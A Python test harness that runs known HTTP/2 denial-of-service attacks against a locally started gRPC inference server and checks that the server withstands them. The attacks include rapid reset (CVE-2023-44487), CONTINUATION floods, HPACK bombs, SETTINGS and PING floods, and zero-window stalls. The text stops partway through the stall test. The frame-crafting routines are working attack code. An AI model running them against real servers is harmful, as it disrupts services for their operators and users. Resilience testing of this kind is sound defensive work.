#!/usr/bin/env python3
"""HTTP/2's known attacks against the gRPC port (h2c), each from a hostile
client written with python3-h2 (frames h2 will not make -- CONTINUATION
floods, crafted HPACK, DATA past what h2 thinks the window is -- are
written byte by byte), each against a fresh server:

 1. rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, thousands a second;
 2. CONTINUATION floods (CVE-2024-27316 family, nghttp2 CVE-2024-28182);
 3. SETTINGS and PING floods from a client that does not read, and a
    SETTINGS frame with too many entries;
 4. HPACK bombs: a 4000-byte header in the dynamic table referenced by
    index (one byte each) thousands to millions of times, in a request's
    headers and in its trailers;
 5. stalls: SETTINGS_INITIAL_WINDOW_SIZE 0 so no reply can be sent (alone,
    and kept "alive" with PINGs), and a client that never reads while it
    sends calls (server run with --timeout 3);
 6. too many streams: 500 HEADERS on one connection, before and after the
    server's SETTINGS are acknowledged; then 1000 such connections;
 7. big messages: a prefix claiming 4 GB, a 10 MB header value, and
    messages declaring 60 MB of raw_input_contents trickled a byte at a time.

For each it asserts: the server stays up and serves a ServerLive after;
its RSS (VmRSS, sampled every 20 ms) stays below the idle value + 64 MiB;
another, well-behaved client on its own connection is served within 2 s
throughout; the attacker is bounded the documented way (GOAWAY, RST_STREAM
REFUSED_STREAM, a reset, RESOURCE_EXHAUSTED, the connection closed); and
what the attacker's calls held is given back (leakyrelu_requests_in_flight
back to its idle value, leakyrelu_memory_used_bytes to 0).

Why 64 MiB: none of these attacks needs the server to keep more than a few
frames and, per call, its header bytes (16 KiB) and its state; the one
place where data is legitimately held -- a stalled reply -- is 1 MiB here.
64 MiB is far above that (and above glibc's slack for two event-loop
threads), and far below what an unbounded buffer reaches in a few seconds.

Debian's python3 (python3-h2, python3-hpack), standard library otherwise;
TAP. Takes about 45 s (20 s against a server that holds every bound: the
rest is waiting for what does not come).
Usage: /usr/bin/python3 tests/h2_attacks.py SERVER_BINARY"""
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

from tap import finish, ok

try:
    import h2.config
    import h2.connection
    import h2.events
    import h2.settings
    import hpack
except ImportError as e:  # not Debian's python3: a failure, never a skip
    print(f"Bail out! python3-h2 and python3-hpack are needed ({e}); run /usr/bin/python3")
    sys.exit(1)

TIMEOUT = 3                 # --timeout for the servers of the stall checks
RSS_BOUND = 64 << 20        # bytes over the idle RSS (see above)
# A build with sanitizers (make SANITIZE=..., or valgrind through
# LEAKYRELU_WRAPPER) holds freed memory in its quarantine: its RSS says
# nothing of the server's (1000 connections under ASan: 366 MiB), so the
# bound is 512 MiB more.
INSTRUMENTED = bool(os.environ.get("LEAKYRELU_WRAPPER")) or "sanitize" in " ".join(sys.argv)
if INSTRUMENTED:
    RSS_BOUND += 512 << 20
SERVED_S = 2.0              # a well-behaved call must complete within this
BOMB_S = 3.0                # an HPACK bomb (up to 9 MiB to send) must be answered within
MiB = 1 << 20

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
TYPE_NAME = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
             "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
CODE_NAME = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
             "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
             "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
             "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE = "/inference.GRPCInferenceService/"


def code_name(c):
    return CODE_NAME[c] if 0 <= c < len(CODE_NAME) else str(c)


# ---- frames, HPACK and messages, by hand ---------------------------------------

def frame(ftype, flags, sid, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big")
            + payload)


def hint(v, bits, first=0):
    """An HPACK integer with a `bits`-bit prefix (RFC 7541 5.1)."""
    top = (1 << bits) - 1
    if v < top:
        return bytes([first | v])
    out, v = [first | top], v - top
    while v >= 128:
        out.append(v & 127 | 128)
        v >>= 7
    return bytes(out + [v])


def hstr(s):
    s = s.encode() if isinstance(s, str) else s
    return hint(len(s), 7) + s  # not Huffman coded


def literal(name, value, indexed=False):
    """A literal header field with a new name: with incremental indexing (it
    enters the dynamic table) or without (RFC 7541 6.2.1, 6.2.2)."""
    return (b"\x40" if indexed else b"\x00") + hstr(name) + hstr(value)


def request_headers(method="ModelInfer"):
    return [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
            (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers")]


def plain_block(method="ModelInfer"):
    """A request's header block touching no dynamic table: the same bytes can
    open any number of streams."""
    return b"".join(literal(n, v) for n, v in request_headers(method))


def varint(v):
    out = b""
    while True:
        b, v = v & 127, v >> 7
        if not v:
            return out + bytes([b])
        out += bytes([b | 128])


def field(number, payload):
    """A length-delimited protobuf field."""
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def tensor_head(count):
    """ModelInferRequest's model_name and one FP64 input x of `count` values."""
    return field(1, b"leaky_relu") + field(5, field(1, b"x") + field(2, b"FP64") +
                                           field(3, varint(count)))


def infer_msg(count):
    """A ModelInferRequest: x = count float64 values, as raw_input_contents."""
    raw = struct.pack("<2d", -1.0, 2.0) * (count // 2) + struct.pack("<d", 3.0) * (count % 2)
    return tensor_head(count) + field(7, raw)


def declared_msg(nbytes):
    """The first bytes of a length-prefixed ModelInferRequest whose
    raw_input_contents declares nbytes (which are never sent)."""
    head = tensor_head(nbytes // 8) + varint(7 << 3 | 2) + varint(nbytes)
    return b"\0" + struct.pack(">I", len(head) + nbytes) + head


def grpc_frame(msg):
    return b"\0" + struct.pack(">I", len(msg)) + msg


def h2_client(**settings):
    """python3-h2's client connection (preface and SETTINGS queued)."""
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                             header_encoding="utf-8"))
    c.initiate_connection()
    if settings:
        c.update_settings({getattr(h2.settings.SettingCodes, k.upper()): v
                           for k, v in settings.items()})
    return c


def tcp_state(sock):
    """The socket's TCP state (1 ESTABLISHED, 7 CLOSE, 8 CLOSE_WAIT), from
    TCP_INFO: how a client that does not read sees the server close."""
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return 7


# ---- the server ----------------------------------------------------------------

class Server:
    started = []  # each is killed at the end if an attack did not stop it
    problems = []  # servers that did not exit 0 on SIGTERM, or reported an error

    def __init__(self, binary, *extra):
        self.argv = [binary, "--port", "0", "--grpc-port", "0", "--log", "off", *extra]
        self.stopped = False
        self.err = tempfile.TemporaryFile(mode="w+")
        self.p = subprocess.Popen(self.argv, stdout=subprocess.PIPE, stderr=self.err, text=True)
        Server.started.append(self.p)
        timer = threading.Timer(10, self.p.kill)
        timer.start()
        line = self.p.stdout.readline()
        timer.cancel()
        h = re.search(r"http://[^ ]*:(\d+)", line)
        g = re.search(r"grpc://[^ ]*:(\d+)", line)
        if not (h and g):
            raise RuntimeError(f"{' '.join(self.argv)} did not start: {line!r}")
        self.http, self.grpc = int(h.group(1)), int(g.group(1))
        live_call(self.grpc)  # the first call's allocations are not the attack's
        time.sleep(0.05)
        m = self.metrics()
        self.idle_rss = self.rss()
        self.idle_in_flight = m.get("leakyrelu_requests_in_flight", 1)
        self.budget = m.get("leakyrelu_memory_budget_bytes", 0)

    def rss(self):
        try:
            with open(f"/proc/{self.p.pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1]) * 1024
        except OSError:
            pass
        return 0

    def cpu(self):
        """User + system seconds the process has used."""
        try:
            with open(f"/proc/{self.p.pid}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
            return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        except OSError:
            return 0.0

    def metrics(self):
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.http}/metrics", timeout=5) as r:
                text = r.read().decode()
        except OSError:
            return {}
        out = {}
        for line in text.splitlines():
            if line and not line.startswith("#"):
                k, _, v = line.rpartition(" ")
                try:
                    out[k] = float(v)
                except ValueError:
                    pass
        return out

    def held(self):
        """(requests in flight, memory used) from /metrics."""
        m = self.metrics()
        return m.get("leakyrelu_requests_in_flight"), m.get("leakyrelu_memory_used_bytes")

    def grpc_codes(self):
        return {re.sub(r"leakyrelu_grpc_requests_total", "", k): int(v)
                for k, v in self.metrics().items()
                if k.startswith("leakyrelu_grpc_requests_total") and v}

    def alive(self):
        return self.p.poll() is None

    def exit_status(self):
        rc = self.p.poll()
        if rc is None:
            return "running"
        return f"killed by {signal.Signals(-rc).name}" if rc < 0 else f"exited {rc}"

    def stop(self, wait=3.0):
        """SIGTERM, then SIGKILL after `wait` s: the seconds it took to exit."""
        t0 = time.time()
        if self.p.poll() is None:
            self.p.send_signal(signal.SIGTERM)
            try:
                self.p.wait(wait * (10 if INSTRUMENTED else 1))
            except subprocess.TimeoutExpired:
                self.p.kill()
                self.p.wait()
        self.p.stdout.close()
        took = time.time() - t0
        if not self.stopped:  # its exit, and what it said (sanitizers, valgrind)
            self.stopped = True
            self.err.seek(0)
            said = [l for l in self.err.read().splitlines()
                    if re.search(r"Sanitizer|runtime error|==\d+== .*(lost|Invalid|uninit)", l)]
            if self.p.returncode != 0 or said:
                Server.problems.append(f"{' '.join(self.argv[1:])}: exit {self.p.returncode}; "
                                       + "; ".join(said[:3]))
        return took


# ---- clients -------------------------------------------------------------------

def call(port, method="ServerLive", msg=b"", timeout=SERVED_S):
    """A well-behaved call on a new connection (python3-h2, flow control
    honoured): (grpc-status or None, reply bytes, seconds, detail)."""
    t0 = time.time()
    data, status = b"", None
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            c = h2_client()
            c.send_headers(1, request_headers(method))
            body, at = grpc_frame(msg), 0
            while True:
                while at < len(body):
                    n = min(c.local_flow_control_window(1), c.max_outbound_frame_size,
                            len(body) - at)
                    if n <= 0:
                        break
                    c.send_data(1, body[at:at + n], end_stream=at + n == len(body))
                    at += n
                s.sendall(c.data_to_send())
                left = timeout - (time.time() - t0)
                if status is not None or left <= 0:
                    break
                s.settimeout(left)
                got = s.recv(1 << 20)
                if not got:
                    status = status or {"closed": "by the server"}
                    break
                for ev in c.receive_data(got):
                    if isinstance(ev, h2.events.DataReceived):
                        data += ev.data
                        c.acknowledge_received_data(ev.flow_controlled_length, 1)
                    elif isinstance(ev, h2.events.TrailersReceived):
                        status = dict(ev.headers)
                    elif isinstance(ev, h2.events.ResponseReceived):
                        if "grpc-status" in dict(ev.headers):
                            status = dict(ev.headers)
                    elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        status = {"reset": type(ev).__name__}
    except Exception as e:  # noqa: BLE001 -- a timeout, a refused connection: not served
        return None, data, time.time() - t0, f"{type(e).__name__}: {e}"
    dt = time.time() - t0
    code = status.get("grpc-status") if status else None
    return code, data, dt, f"{len(data)} bytes, {status or 'no status'}, {dt:.3f} s"


def live_call(port, timeout=SERVED_S):
    """ServerLive: (served, seconds, detail). Its reply is the message 08 01."""
    code, data, dt, detail = call(port, "ServerLive", b"", timeout)
    return code == "0" and data == b"\0\0\0\0\x02\x08\x01" and dt <= timeout, dt, detail


class Peer:
    """The hostile side's socket; a thread reads (unless told not to) and
    parses what the server sends: the frames' counts, GOAWAY, RST_STREAMs,
    the streams that ended, the header blocks (HPACK-decoded)."""

    def __init__(self, port, read=True):
        self.s = socket.create_connection(("127.0.0.1", port))
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.counts = {}
        self.goaway = None          # (last stream id, code, debug data)
        self.rst = {}               # code -> count
        self.ended = set()          # streams reset, or ended by the server
        self.reset_ids = set()      # streams reset by the server
        self.headers = []           # (stream, {name: value})
        self.settings_seen = threading.Event()
        self.closed = False
        self.closed_at = None
        self.sent = 0
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 30
        self.block = None
        self.lock = threading.Lock()
        if read:
            self.read_in_background()

    def read_in_background(self):
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        while True:
            try:
                got = self.s.recv(1 << 20)
            except OSError:
                got = b""
            if not got:
                self.closed, self.closed_at = True, time.time()
                return
            self.feed(got)

    def read_until_settings(self, timeout=2.0):
        """Reads (in this thread) until the server's SETTINGS came."""
        self.s.settimeout(timeout)
        try:
            while not self.settings_seen.is_set():
                got = self.s.recv(65536)
                if not got:
                    break
                self.feed(got)
        finally:
            self.s.settimeout(None)

    def feed(self, got):
        with self.lock:
            self.buf += got
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                ftype, flags = self.buf[3], self.buf[4]
                sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
                self.counts[ftype] = self.counts.get(ftype, 0) + 1
                if ftype == SETTINGS and not flags & ACK:
                    self.settings_seen.set()
                elif ftype == GOAWAY:
                    self.goaway = (int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                                   int.from_bytes(payload[4:8], "big"), payload[8:80])
                elif ftype == RST_STREAM:
                    code = int.from_bytes(payload[:4], "big")
                    self.rst[code] = self.rst.get(code, 0) + 1
                    self.ended.add(sid)
                    self.reset_ids.add(sid)
                elif ftype in (HEADERS, CONTINUATION):
                    if ftype == HEADERS:
                        if flags & 8:  # PADDED
                            payload = payload[1:len(payload) - payload[0]]
                        if flags & 0x20:  # PRIORITY
                            payload = payload[5:]
                        self.block = (sid, b"")
                    if self.block:
                        self.block = (self.block[0], self.block[1] + payload)
                        if flags & END_HEADERS:
                            try:
                                h = {k.decode(): v.decode()
                                     for k, v in self.dec.decode(self.block[1], raw=True)}
                            except Exception as e:  # noqa: BLE001
                                h = {"undecodable": repr(e)}
                            self.headers.append((self.block[0], h))
                            self.block = None
                if ftype in (HEADERS, DATA) and flags & END_STREAM:
                    self.ended.add(sid)

    def send(self, data):
        try:
            self.s.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            return False

    def handshake(self, c=None, settings=b""):
        """The preface and our SETTINGS (c's, or these raw entries); waits for
        the server's SETTINGS and acknowledges them (so its 1 MiB frames and
        8 MiB windows apply)."""
        self.send(c.data_to_send() if c else PREFACE + frame(SETTINGS, 0, 0, settings))
        self.settings_seen.wait(2)
        self.send(frame(SETTINGS, ACK, 0))

    def wait(self, cond, timeout):
        end = time.time() + timeout
        while time.time() < end and not cond():
            time.sleep(0.01)
        return cond()

    def wait_closed(self, timeout):
        return self.wait(lambda: self.closed, timeout)

    def ended_by_server(self):
        """A GOAWAY came or the connection is gone."""
        return self.goaway is not None or self.closed

    def summary(self):
        with self.lock:
            parts = [", ".join(f"{TYPE_NAME[t] if t < len(TYPE_NAME) else t} x{n}"
                               for t, n in sorted(self.counts.items())) or "no frames"]
            if self.goaway:
                parts.append(f"GOAWAY {code_name(self.goaway[1])} last-stream {self.goaway[0]}"
                             + (f" {self.goaway[2].decode(errors='replace')!r}"
                                if self.goaway[2] else ""))
            if self.rst:
                parts.append("RST_STREAM " + ", ".join(f"{code_name(c)} x{n}"
                                                       for c, n in sorted(self.rst.items())))
            parts.append("closed by the server" if self.closed else "still open")
        return "; ".join(parts)

    def close(self):
        """Closes the connection (shutdown first: a close alone leaves it open
        while the reading thread is in recv)."""
        for end in (lambda: self.s.shutdown(socket.SHUT_RDWR), self.s.close):
            try:
                end()
            except OSError:
                pass


class Watch:
    """While an attack runs: VmRSS sampled every 20 ms (its peak), and a
    well-behaved client making a call on a new connection every 0.1 s."""

    def __init__(self, srv, victim=None):
        self.srv, self.victim = srv, victim or (lambda: live_call(srv.grpc))
        self.peak, self.calls, self.stopping = srv.rss(), [], False
        self.threads = [threading.Thread(target=self._sample, daemon=True),
                        threading.Thread(target=self._serve, daemon=True)]
        for t in self.threads:
            t.start()

    def _sample(self):
        while not self.stopping:
            self.peak = max(self.peak, self.srv.rss())
            time.sleep(0.02)

    def _serve(self):
        while not self.stopping:
            self.calls.append(self.victim())
            time.sleep(0.1)

    def stop(self):
        self.stopping = True
        for t in self.threads:
            t.join(SERVED_S + 5)
        self.peak = max(self.peak, self.srv.rss())
        return self


class Report:
    """One attack's TAP lines, gathered (some attacks run side by side) and
    printed in order: `#` lines for what was observed, then its tests."""

    def __init__(self, title):
        self.title, self.lines = title, []

    def diag(self, text):
        self.lines.append(("#", str(text)))

    def ok(self, name, cond, detail=""):
        self.lines.append(("ok", (name, bool(cond), detail)))
        return cond

    def print(self):
        print(f"# ---- {self.title}")
        for kind, item in self.lines:
            if kind == "#":
                print("# " + item.replace("\n", "\n# "))
            else:
                ok(*item)


def mb(n):
    return f"{n / MiB:.1f} MiB"


def standard(rep, tag, srv, watch, after=True):
    """The checks every attack makes: up, memory, the other client served."""
    rep.diag(f"{tag}: RSS idle {mb(srv.idle_rss)}, peak {mb(watch.peak)}, now {mb(srv.rss())}")
    if after:
        served, dt, detail = live_call(srv.grpc) if srv.alive() else (False, 0, "")
        rep.ok(f"{tag}: the server is up and serves a ServerLive after",
               srv.alive() and served, f"server {srv.exit_status()}; {detail}")
    rep.ok(f"{tag}: its RSS stayed below idle + 64 MiB", watch.peak - srv.idle_rss < RSS_BOUND,
           f"idle {mb(srv.idle_rss)}, peak {mb(watch.peak)}")
    bad = [c for c in watch.calls if not c[0]]
    worst = max((c[1] for c in watch.calls), default=0)
    rep.diag(f"{tag}: {len(watch.calls)} calls of another client meanwhile, "
             f"{len(bad)} not served, slowest {worst:.3f} s")
    rep.ok(f"{tag}: another client was served within {SERVED_S:g} s throughout "
           f"({len(watch.calls)} calls)", watch.calls and not bad,
           bad and f"{len(bad)} of {len(watch.calls)} failed, first: {bad[0][2]}")


def released(rep, tag, srv, timeout=1.5):
    """What the attacker's calls held is given back: requests in flight back to
    the idle value (the /metrics request itself), memory used 0."""
    want = srv.idle_in_flight
    end, held = time.time() + timeout, (None, None)
    while time.time() < end:
        held = srv.held()
        if held == (want, 0):
            break
        time.sleep(0.1)
    rep.ok(f"{tag}: the calls it opened are released (requests_in_flight back to "
           f"{want:g}, memory_used 0)", held == (want, 0),
           f"requests_in_flight {held[0]}, memory_used_bytes {held[1]} "
           f"({(held[0] or 0) - want:g} calls never closed)")


# ---- 1. rapid reset --------------------------------------------------------------

def attack_rapid_reset(binary, rep, seconds=3.0, per_conn=5000, pause=0.0):
    srv = Server(binary)
    watch = Watch(srv)
    t0, total, conns = time.time(), 0, []
    while time.time() - t0 < seconds:
        a = Peer(srv.grpc)
        c = h2_client()
        a.send(c.data_to_send())
        sid = n = 0
        while not a.ended_by_server() and n < per_conn and time.time() - t0 < seconds + 1:
            for _ in range(100):
                sid = 2 * n + 1
                c.send_headers(sid, request_headers())
                c.reset_stream(sid, 8)  # CANCEL
                n += 1
            if not a.send(c.data_to_send()):
                break
            if pause:
                time.sleep(pause)
        a.wait_closed(1.0)
        total += n
        conns.append((n, a))
        a.close()
    elapsed = time.time() - t0
    watch.stop()
    rep.diag(f"rapid reset: {total} streams opened and reset in {elapsed:.1f} s "
             f"({total / elapsed:.0f}/s) over {len(conns)} connections")
    rep.diag(f"rapid reset: first connection: {conns[0][1].summary()}")
    rep.diag(f"rapid reset: calls counted: {srv.grpc_codes()}")
    standard(rep, "rapid reset", srv, watch)
    # nghttp2's stream_reset_rate_limit(1000, 33): a burst of 1000, then 33/s.
    unbounded = [(n, a.summary()) for n, a in conns
                 if not (a.goaway and a.goaway[1] != 0 and a.closed and a.goaway[0] <= 2 * 1100)]
    rep.ok("rapid reset: each attacking connection got a GOAWAY with an error and was closed "
           "within ~1000 reset streams", not unbounded,
           unbounded and f"{len(unbounded)} of {len(conns)}, e.g. {unbounded[0][0]} streams sent:"
                         f" {unbounded[0][1]}")
    released(rep, "rapid reset", srv)
    srv.stop()


# ---- 2. CONTINUATION floods --------------------------------------------------------

def attack_continuation(binary, rep, empty_frames=10_000, repeat=100):
    srv = Server(binary)
    watch = Watch(srv)
    # a: HEADERS without END_HEADERS, then empty CONTINUATION frames, on `repeat`
    # connections one after the other
    results = []
    for _ in range(repeat):
        a = Peer(srv.grpc)
        a.handshake()
        a.send(frame(HEADERS, 0, 1, plain_block()))
        sent = 0
        while not a.closed and sent < empty_frames:
            n = min(100, empty_frames - sent)
            if not a.send(frame(CONTINUATION, 0, 1) * n):
                break
            sent += n
        results.append((a.wait_closed(2.0), sent, a))
        a.close()
    open_ = [r for r in results if not r[0]]
    rep.diag(f"CONTINUATION flood (empty frames), {repeat} connections: {results[0][2].summary()}"
             f"; {len(open_)} left open")
    rep.ok(f"CONTINUATION flood: endless empty CONTINUATION frames: each of {repeat} "
           "connections closed by the server within 2 s", not open_,
           open_ and f"{len(open_)} still open after {open_[0][1]} frames: {open_[0][2].summary()}")
    # b: CONTINUATION frames full of new 4000-byte headers (16 KiB each)
    a = Peer(srv.grpc)
    a.handshake()
    a.send(frame(HEADERS, 0, 1, plain_block()))
    i = 0
    while not a.ended_by_server() and 1 not in a.ended and i < 2000:
        a.send(frame(CONTINUATION, 0, 1, b"".join(literal(f"x-h{i}-{j}", "v" * 4000)
                                                   for j in range(4))))
        i += 1
    a.wait(lambda: a.ended_by_server() or 1 in a.ended, 2.0)
    rep.diag(f"CONTINUATION flood (16 KiB of headers each): {i} frames sent, {a.summary()}")
    rep.ok("CONTINUATION flood: CONTINUATION frames full of headers end the stream "
           "(RST_STREAM) or the connection", a.ended_by_server() or 1 in a.ended, a.summary())
    a.close()
    # c: one header's value announced as 50 MB, sent in 1 MiB CONTINUATION pieces
    a = Peer(srv.grpc)
    a.handshake()
    a.send(frame(HEADERS, 0, 1, plain_block() + b"\x00" + hstr("x-big") + hint(50 * MiB, 7)))
    i = 0
    while not a.ended_by_server() and i < 50:
        a.send(frame(CONTINUATION, 0, 1, b"a" * MiB))
        i += 1
    a.wait(a.ended_by_server, 2.0)
    rep.diag(f"CONTINUATION flood (a 50 MB value in 1 MiB pieces): {i} frames sent, "
             f"{a.summary()}")
    rep.ok("CONTINUATION flood: a 50 MB header value in 1 MiB CONTINUATION frames ends the "
           "connection", a.ended_by_server(), a.summary())
    a.close()
    watch.stop()
    standard(rep, "CONTINUATION flood", srv, watch)
    released(rep, "CONTINUATION flood", srv)
    srv.stop()


# ---- 3. SETTINGS and PING floods ----------------------------------------------------

def flood(srv, watch, one_frame, seconds=2.0, frames=None):
    """Sends copies of one frame without reading, until the server stops
    taking them (or `seconds`, or `frames` are sent); a ServerLive is made
    on another connection while the ACKs lie unread; then reads: (peer,
    frames sent, how it ended)."""
    a = Peer(srv.grpc, read=False)
    a.s.settimeout(0.5)
    a.send(PREFACE + frame(SETTINGS, 0, 0))
    sent, how, t0 = 0, "the flood's time ran out", time.time()
    while time.time() - t0 < seconds and (frames is None or sent < frames):
        n = 1000 if frames is None else min(1000, frames - sent)
        try:
            a.s.sendall(one_frame * n)
            sent += n
        except socket.timeout:
            how = "the server stopped reading (our send blocked)"
            break
        except OSError as e:
            how = f"the connection failed: {e.strerror or e}"
            break
    watch.calls.append(live_call(srv.grpc))
    a.s.settimeout(None)
    a.read_in_background()
    a.wait(a.ended_by_server, 2 * TIMEOUT + 2)
    return a, sent, how


def attack_floods(binary, rep, frames=None, entries=40):
    srv = Server(binary, "--timeout", str(TIMEOUT))
    watch = Watch(srv)
    c = h2_client()
    c.data_to_send()
    c.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 100})
    settings_frame = c.data_to_send()
    c.ping(b"12345678")
    ping_frame = c.data_to_send()
    for name, one in (("SETTINGS", settings_frame), ("PING", ping_frame)):
        a, sent, how = flood(srv, watch, one, frames=frames)
        rep.diag(f"{name} flood: {sent} frames sent unread, then {how}; {a.summary()}")
        rep.ok(f"{name} flood: the server ends the connection of a client flooding {name} "
               "and not reading the ACKs", a.ended_by_server(), a.summary())
        a.close()
    # a SETTINGS frame of 40 entries (nghttp2 max_settings 32)
    a = Peer(srv.grpc)
    a.handshake()
    a.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * entries))
    a.wait(a.ended_by_server, 2.0)
    rep.diag(f"SETTINGS with {entries} entries: {a.summary()}")
    rep.ok(f"SETTINGS with {entries} entries (max_settings 32): GOAWAY ENHANCE_YOUR_CALM",
           a.goaway and a.goaway[1] == 11, a.summary())
    a.close()
    watch.stop()
    standard(rep, "SETTINGS/PING floods", srv, watch)
    srv.stop()


# ---- 4. HPACK bombs -------------------------------------------------------------

def bomb(rep, srv, tag, first_block, refs, trailers=False):
    """A 4000-byte header enters the dynamic table (literal, incremental
    indexing); then `refs` one-byte references to it (0xbe: index 62, the
    newest entry) follow in the same block (in 1 MiB frames: HEADERS and up
    to 8 CONTINUATIONs). With trailers, the block is a ServerLive's
    trailers, after its HEADERS and its message."""
    a = Peer(srv.grpc)
    a.handshake()
    entry = literal("x-bomb", "b" * 4000, indexed=True)
    if trailers:
        a.send(frame(HEADERS, END_HEADERS, 1, first_block) + frame(DATA, 0, 1, b"\0" * 5))
        block = entry + b"\xbe" * refs
        flags = END_STREAM
    else:
        block = first_block + entry + b"\xbe" * refs
        flags = 0
    pieces = [block[i:i + MiB] for i in range(0, len(block), MiB)]
    frames = b"".join(frame(HEADERS, flags | (END_HEADERS if len(pieces) == 1 else 0), 1, p)
                      if i == 0 else
                      frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, p)
                      for i, p in enumerate(pieces))
    cpu0, t0 = srv.cpu(), time.time()
    # sent from a thread: a server busy with the first frames stops reading
    threading.Thread(target=a.send, args=(frames,), daemon=True).start()
    answered = a.wait(lambda: a.ended_by_server() or 1 in a.ended, BOMB_S)
    dt, cpu = time.time() - t0, srv.cpu() - cpu0
    decoded = refs * (4000 + 6)
    rep.diag(f"HPACK bomb, {tag}: {len(block)} bytes of header block ({len(pieces)} frames) "
             f"decode to {decoded / 1e9:.2f} GB; " +
             (f"answered after {dt:.2f} s" if answered else f"no answer in {dt:.2f} s") +
             f"; server CPU in that time {cpu:.2f} s: {a.summary()}")
    rep.ok(f"HPACK bomb, {tag}: the stream is reset or the connection ended within "
           f"{BOMB_S:g} s", answered, f"{a.summary()} after {dt:.2f} s")
    return a, cpu


def attack_hpack(binary, rep, refs=16 * 1024 - 600, trailers=True):
    # one event-loop thread: a bomb that holds it shows as other clients unserved
    srv = Server(binary, "--threads", "1")
    watch = Watch(srv)
    a, _ = bomb(rep, srv, f"{refs} references in request headers", plain_block(), refs)
    a.close()
    a, cpu = bomb(rep, srv, "9 MiB of request headers", plain_block(), 9 * MiB - 5000)
    rep.ok("HPACK bomb, 9 MiB of request headers: the server spends under 1 s of CPU on it",
           cpu < 1.0, f"{cpu:.2f} s until it answered")
    a.close()
    watch.stop()
    standard(rep, "HPACK bomb (request headers)", srv, watch)
    released(rep, "HPACK bomb (request headers)", srv)
    srv.stop()
    if not trailers:
        return
    srv = Server(binary, "--threads", "1")
    watch = Watch(srv)
    a, cpu = bomb(rep, srv, "9 MiB of trailers", plain_block("ServerLive"), 9 * MiB - 5000,
                  trailers=True)
    rep.ok("HPACK bomb, 9 MiB of trailers: the server spends under 1 s of CPU on it",
           cpu < 1.0, f"{cpu:.2f} s in the {BOMB_S:g} s from the first byte sent")
    time.sleep(0.5)
    watch.stop()
    standard(rep, "HPACK bomb (trailers)", srv, watch)
    a.close()
    srv.stop(wait=0.5)


# ---- 5. stalls (--timeout 3) ----------------------------------------------------

STALL_CALL = 1 << 17  # values: a 1 MiB tensor, and a 1 MiB reply


def attack_zero_window(binary, rep, keepalive=False):
    """SETTINGS_INITIAL_WINDOW_SIZE 0: the reply to a ModelInfer cannot be
    sent. With keepalive, a PING every 0.5 s as well."""
    tag = "zero window + PINGs" if keepalive else "zero window"
    srv = Server(binary, "--timeout", str(TIMEOUT), "--max-memory", "256M")
    watch = Watch(srv)
    a = Peer(srv.grpc)
    c = h2_client(initial_window_size=0)
    a.handshake(c)
    c.send_headers(1, request_headers("ModelInfer"))
    a.send(c.data_to_send())
    body = grpc_frame(infer_msg(STALL_CALL))
    a.send(b"".join(frame(DATA, END_STREAM if i + 16384 >= len(body) else 0, 1,
                          body[i:i + 16384]) for i in range(0, len(body), 16384)))
    t0 = time.time()
    time.sleep(0.5)
    during = srv.held()
    limit = (2 * TIMEOUT + 2) if keepalive else (TIMEOUT + 2)
    while time.time() - t0 < limit and not (a.ended_by_server() or 1 in a.ended):
        if keepalive:
            a.send(frame(PING, 0, 0, b"keepaliv"))
        time.sleep(0.5)
    dt = time.time() - t0
    ended = a.ended_by_server() or 1 in a.ended
    rep.diag(f"{tag}: while stalled: requests_in_flight {during[0]}, memory_used "
             f"{mb(during[1] or 0)}; after {dt:.1f} s: {a.summary()}")
    if keepalive:
        rep.ok(f"{tag}: the stalled call is reset or the connection ended within "
               f"2 x --timeout + 2 s, though PINGs keep coming", ended,
               f"after {dt:.1f} s: {a.summary()}")
    else:
        # The stalled call is cut (RST_STREAM CANCEL); its connection, then
        # idle, is sent GOAWAY and closed after another --timeout.
        cut = 1 in a.reset_ids or (a.goaway is not None and a.goaway[1] != 0)
        rep.ok(f"{tag}: the stalled call is cut (RST_STREAM, or GOAWAY with an error) within "
               "--timeout + 2 s", cut, f"after {dt:.1f} s: {a.summary()}")
        closed = a.wait_closed(TIMEOUT + 2.0)
